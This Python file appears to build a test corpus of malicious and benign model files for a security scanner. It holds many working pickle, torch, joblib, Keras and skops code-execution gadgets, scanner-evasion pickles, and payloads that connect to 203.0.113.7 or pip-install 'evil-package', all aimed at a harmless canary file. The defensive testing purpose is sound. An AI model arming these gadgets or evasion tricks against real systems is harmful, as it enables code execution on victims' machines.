"""A corpus of malicious and benign model files, for the scanner's tests and benchmark.

Malicious files are *written, never loaded*: payloads are objects whose ``__reduce__`` names a
real gadget and are only ever passed to ``pickle.dumps``/``torch.save``/``joblib.dump``/
``numpy.save`` (which call ``__reduce__`` and record the answer, running nothing), or pickles
assembled opcode by opcode (:mod:`devtools.scanning.asm`), or Keras configs whose Lambda
layer carries a function's marshalled bytecode (written with ``marshal.dumps``, never run). Each
payload would, if loaded, create the ``canary`` file: a test that finds no canary after scanning
everything proves nothing ran.

Every :class:`Sample` says what a scanner must report: the globals (with severities) for a
malicious file, a ``safe`` verdict for a benign one.
"""

from __future__ import annotations

import gzip
import io
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from devtools.scanning.asm import Asm
from devtools.scanning.corpus_files import benign_samples, keras_bytes, replace_zip_member, torchscript_bytes


@dataclass(frozen=True)
class Sample:
    """One corpus file and what a scan must find in it."""

    name: str
    malicious: bool
    family: str  # the gadget family, or what the benign file holds
    container: str  # pickle-p4, torch-zip, joblib, ...
    expect: tuple[tuple[str, str], ...] = ()  # (global, severity) a scan must report

    @property
    def label(self) -> str:
        return f"{self.family} in {self.container}"


class Payload:
    """``func(*args)`` when unpickled; pickling it only records the call."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args

    def __call__(self, *args: Any) -> None:
        # pickle only accepts a callable as the first item of __reduce__; chained payloads
        # (getattr(...)(...)) pass a Payload there. It stands for a call made at load time.
        raise RuntimeError("a corpus payload is data, never called")


def gadget_payloads(canary: Path) -> dict[str, tuple[Any, tuple[tuple[str, str], ...]]]:
    """One payload per gadget family: ``family -> (payload, expected findings)``."""
    import code
    import cProfile
    import ctypes
    import importlib
    import os
    import pdb
    import runpy
    import socket
    import subprocess
    import timeit
    import urllib.request
    import webbrowser

    import numpy.testing._private.utils as np_utils
    import torch

    touch = f"open({str(canary)!r}, 'w').close()"
    shell = f"touch {canary}"
    crit = "critical"
    return {
        "os.system": (Payload(os.system, shell), (("posix.system", crit),)),
        "subprocess": (Payload(subprocess.Popen, ["touch", str(canary)]), (("subprocess.Popen", crit),)),
        "eval": (Payload(eval, touch), (("builtins.eval", crit),)),
        "exec": (Payload(exec, touch), (("builtins.exec", crit),)),
        "getattr-import": (Payload(Payload(getattr, Payload(__import__, "os"), "system"), shell),
                           (("builtins.getattr", crit), ("builtins.__import__", crit))),
        "open": (Payload(open, str(canary), "w"), (("io.open", crit),)),
        "runpy": (Payload(runpy._run_code, touch, {}),  # type: ignore[attr-defined]  # private: the real gadget
                  (("runpy._run_code", crit),)),
        "importlib": (Payload(Payload(getattr, Payload(importlib.import_module, "os"), "system"), shell),
                      (("importlib.import_module", crit), ("builtins.getattr", crit))),
        "pickle.loads": (Payload(pickle.loads, pickle.dumps(Payload(os.system, shell))),
                         (("_pickle.loads", crit),)),
        "timeit": (Payload(timeit.timeit, touch), (("timeit.timeit", crit),)),
        "cProfile": (Payload(cProfile.run, touch), (("cProfile.run", crit),)),
        "pdb": (Payload(pdb.run, touch), (("pdb.run", crit),)),
        "code": (Payload(Payload(getattr, Payload(code.InteractiveInterpreter), "runsource"), touch),
                 (("code.InteractiveInterpreter", crit), ("builtins.getattr", crit))),
        "ctypes": (Payload(Payload(getattr, Payload(ctypes.CDLL, None), "system"), shell.encode()),
                   (("ctypes.CDLL", crit), ("builtins.getattr", crit))),
        "numpy-runstring": (Payload(np_utils.runstring, touch, {}),
                            (("numpy.testing._private.utils.runstring", crit),)),
        "torch.load": (Payload(torch.load, str(canary.with_suffix(".pt"))), (("torch.serialization.load", crit),)),
        "socket": (Payload(socket.create_connection, ("203.0.113.7", 4444)), (("socket.create_connection", crit),)),
        "urllib": (Payload(urllib.request.urlopen, "http://203.0.113.7/x"), (("urllib.request.urlopen", crit),)),
        "webbrowser": (Payload(webbrowser.open, "http://203.0.113.7/x"), (("webbrowser.open", crit),)),
    }


def _assembled(canary: Path) -> dict[str, tuple[bytes, tuple[tuple[str, str], ...]]]:
    """Pickles no ordinary pickler writes: evasions, and modules that need not be installed."""
    shell = f"touch {canary}"
    memo = (Asm(4).text("os").memoize().pop().text("system").memoize().pop()  # strings parked in the memo
            .empty_list().text("weights").append().pop()
            .binget(0).binget(1).raw(b"\x93").text(shell).tuple(1).reduce().stop())
    computed = (Asm(4).global_("builtins", "str").text("os").tuple(1).reduce()
                .text("system").raw(b"\x93").text(shell).tuple(1).reduce().stop())
    return {
        "pip": (Asm(2).global_("pip", "main").mark().empty_list().text("install").append()
                .text("evil-package").append().raw(b"t").reduce().stop(), (("pip.main", "critical"),)),
        "requests": (Asm(2).call("requests", "get", "http://203.0.113.7/x").stop(), (("requests.get", "critical"),)),
        "memo-stack-global": (memo, (("os.system", "critical"),)),
        "computed-stack-global": (computed, (("builtins.str('os',).system", "high"),)),
        "inst-opcode": (Asm(0).mark().text(shell).inst("os", "system").stop(), (("os.system", "critical"),)),
        "obj-opcode": (Asm(2).mark().global_("os", "system").text(shell).raw(b"o").stop(),
                       (("os.system", "critical"),)),
        "attribute-chain": (Asm(4).stack_global("logging", "os.system").text(shell).tuple(1).reduce().stop(),
                            (("logging.os.system", "critical"),)),
        "dunder-chain": (Asm(4).stack_global("copyreg", "_reconstructor.__globals__").stop(),
                         (("copyreg._reconstructor.__globals__", "critical"),)),
        "ext-opcode": (Asm(2).ext2(0x7F01).text(shell).tuple(1).reduce().stop(),
                       (("<extension code 32513>", "medium"),)),
        "build-on-global": (Asm(2).global_("collections", "OrderedDict").empty_dict().text("__reduce_ex__")
                            .global_("os", "system").setitem().build().stop(),
                            (("collections.OrderedDict", "high"), ("os.system", "critical"))),
        "unknown-module": (Asm(2).call("evil_ops.payload", "run", shell).stop(), (("evil_ops.payload.run", "medium"),)),
        "second-pickle": (pickle.dumps({"w": [1.0]}) + Asm(2).call("os", "system", shell).stop(),
                          (("os.system", "critical"),)),
    }


def build_corpus(folder: Path, canary: Path) -> list[Sample]:
    """Write the corpus into ``folder``; payloads would create ``canary`` if ever loaded."""
    folder.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []

    def write(name: str, data: bytes | Callable[[Path], None], sample: Sample) -> None:
        path = folder / name
        data(path) if callable(data) else path.write_bytes(data)
        samples.append(sample)

    payloads = gadget_payloads(canary)
    for family, (payload, expect) in payloads.items():
        write(f"gadget-{family}.pkl", pickle.dumps(payload, protocol=4),
              Sample(f"gadget-{family}.pkl", True, family, "pickle-p4", expect))
    for family, (data, expect) in _assembled(canary).items():
        write(f"evasion-{family}.pkl", data, Sample(f"evasion-{family}.pkl", True, family, "pickle", expect))
    system, expect = payloads["os.system"]
    for protocol in (0, 1, 2, 3, 5):
        name = f"protocol-{protocol}.pkl"
        sample = Sample(name, True, "os.system", f"pickle-p{protocol}", expect)
        write(name, pickle.dumps(system, protocol=protocol), sample)
    for name, container, content in _containers(system, folder):
        write(name, content, Sample(name, True, "os.system", container, expect))
    for name, (family, data, expect) in _keras(canary).items():
        write(name, data, Sample(name, True, family, "keras", expect))
    samples.extend(benign_samples(folder))
    return samples


def _containers(payload: Any, folder: Path) -> list[tuple[str, str, bytes | Callable[[Path], None]]]:
    import joblib
    import numpy as np
    import torch

    evil = pickle.dumps(payload, protocol=2)
    weights = np.arange(2048, dtype=np.float64)
    objects = np.array([payload, "label"], dtype=object)
    plain_zip = _zip({"model/evil.pkl": evil, "README.txt": b"weights"})
    return [
        ("torch-zip.pt", "torch-zip", lambda p: torch.save({"state": payload}, p)),
        ("torch-legacy.pt", "torch-legacy",
         lambda p: torch.save({"state": payload}, p, _use_new_zipfile_serialization=False)),
        ("model.joblib", "joblib", lambda p: joblib.dump({"weights": weights, "hook": payload}, p)),
        ("model-zlib.joblib", "joblib-zlib",
         lambda p: joblib.dump({"weights": weights, "hook": payload}, p, compress=("zlib", 3))),
        ("model-gzip.joblib", "joblib-gzip",
         lambda p: joblib.dump({"weights": weights, "hook": payload}, p, compress=("gzip", 3))),
        ("objects.npy", "npy-object-array", lambda p: np.save(p, objects, allow_pickle=True)),
        ("arrays.npz", "npz-object-array", lambda p: np.savez(p, weights=weights, meta=objects)),
        ("bundle.zip", "zip", plain_zip),
        ("nested.zip", "zip-in-zip", _zip({"inner/bundle.zip": plain_zip})),
        ("torchscript-evil.pt", "torchscript-constants",
         replace_zip_member(torchscript_bytes(), "constants.pkl", evil)),
        ("model.pkl.gz", "gzip", gzip.compress(evil)),
        ("polyglot.pkl", "pickle+zip", pickle.dumps([1.0, 2.0]) + plain_zip),
        ("model.skops", "skops", _skops_bytes()),
    ]


def _keras(canary: Path) -> dict[str, tuple[str, bytes, tuple[tuple[str, str], ...]]]:
    """Keras v3 archives that run code on load: a Lambda layer, and a function from ``os``."""
    import base64
    import marshal

    def payload(x: Any) -> Any:  # never called: only its bytecode is written, as Keras does
        return __import__("os").system(f"touch {canary}") or x

    code = base64.encodebytes(marshal.dumps(payload.__code__)).decode("ascii")
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    lambda_layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
                    "config": {"name": "lambda", "function": function, "arguments": {}}}
    system = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    dense = {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
             "config": {"name": "dense", "units": 2, "activation": system}}
    high = "high"
    return {
        "keras-lambda.keras": ("lambda-bytecode", keras_bytes([lambda_layer]),
                               (("keras.layers.Lambda", high), ("__lambda__", high))),
        "keras-function.keras": ("os.system", keras_bytes([dense]), (("os.system", high),)),
    }


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _skops_bytes() -> bytes:
    """A skops file whose FunctionTransformer applies ``posix.system`` (as skops writes one)."""
    import json

    def node(module: str, cls: str, loader: str, content: Any = None) -> dict[str, Any]:
        entry = {"__class__": cls, "__module__": module, "__loader__": loader, "__id__": id(content)}
        if content is not None:
            entry["content"] = content
        return entry

    state = node("builtins", "dict", "DictNode", {"func": node("posix", "system", "FunctionNode")})
    schema = node("sklearn.preprocessing._function_transformer", "FunctionTransformer", "ObjectNode", state)
    schema.update({"protocol": 2, "_skops_version": "0.16.0"})
    return _zip({"schema.json": json.dumps(schema).encode()})
